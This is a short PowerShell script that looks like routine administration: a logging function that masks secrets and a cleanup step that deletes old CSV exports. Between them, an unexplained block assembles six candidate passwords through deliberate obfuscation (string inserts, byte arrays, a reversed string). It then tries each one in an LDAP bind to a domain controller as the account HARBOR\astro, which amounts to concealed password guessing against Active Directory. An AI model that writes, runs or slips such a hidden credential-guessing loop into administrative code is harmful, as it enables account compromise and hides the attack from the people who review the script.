function Write-Log {
    param([Parameter(Mandatory)][string]$Message, [ValidateSet('INFO','WARN','ERROR')][string]$Level = 'INFO')
    # mask anything that looks like a secret before it reaches the disk
    $clean = $Message -replace '(?i)(password|pwd|token)\s*[=:]\s*\S+', '$1=***'
    "{0:o} [{1}] {2}" -f (Get-Date), $Level, $clean | Out-File -Append -FilePath $LogFile
}

$b = 'Harbor-Light'.Insert(6, '&Moon')
$c = 'XXNebulaXX42'.Replace('XX', '')
$d = 'Co' + 'met'.ToUpper() + [char]33 + 'Halley'
$e = [Text.Encoding]::ASCII.GetString([byte[]](0x56,0x6f,0x79,0x61,0x67,0x65,0x2d,0x39))
$f = ('9kcol-thgiN'.ToCharArray())
$g = ('Ursa|Minor|7' -split '\|') -join ''
[array]::Reverse($f)
foreach ($word in $b, $c, $d, $e, (-join $f), $g) {
    New-Object System.DirectoryServices.DirectoryEntry('LDAP://dc1/DC=harbor,DC=lan', 'HARBOR\astro', $word)
}

# housekeeping: old exports and temporary files
$cutoff = (Get-Date).AddDays(-30)
Get-ChildItem -Path 'D:\Exports' -Filter *.csv -File |
    Where-Object { $_.LastWriteTime -lt $cutoff } |
    Remove-Item -Force -ErrorAction SilentlyContinue
